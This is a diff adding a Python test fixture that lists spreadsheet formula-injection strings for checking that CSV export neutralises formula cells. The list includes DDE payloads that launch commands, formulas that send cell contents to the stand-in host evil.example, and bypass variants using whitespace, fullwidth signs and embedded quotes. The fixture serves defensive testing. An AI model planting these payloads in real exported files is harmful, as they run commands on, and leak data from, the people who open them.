@@ -1,0 +1,55 @@
+"""Cells that a spreadsheet would compute instead of show.
+
+What must hold: read back as CSV, a cell is what was typed, or that behind an apostrophe, and none
+begins with what a spreadsheet takes for a formula.
+"""
+
+from __future__ import annotations
+
+FORMULAS: list[str] = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "=cmd|' /C calc'!'A1'",
+    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
+    '=WEBSERVICE("https://evil.example/"&A1)',
+    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
+    '=IMPORTDATA("https://evil.example/")',
+    '=IMAGE("https://evil.example/x.png")',
+    '=DDE("cmd";"/C calc";"x")',
+    "=rundll32|'URL.dll,OpenURL evil.example'!A",
+    "=SUM(A1:A9)",
+    "==1+1",
+    "=-1",
+    "=\n1+1",
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "+SUM(A1)",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "-SUM(A1)",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@A1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\r\n=1+1",
+    "\t",
+    " =1+1",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(A1)",
+    "'=1+1",
+    '"=1+1',
+    '",=1+1',
+    '","=1+1',
+    "a\r\n=1+1",
+    'a\n"=1+1"',
+    ";=1+1",
+    "|=1+1",
+    "a,=1+1",
+    "=1+1\0",
+    "%0A=1+1",
+]
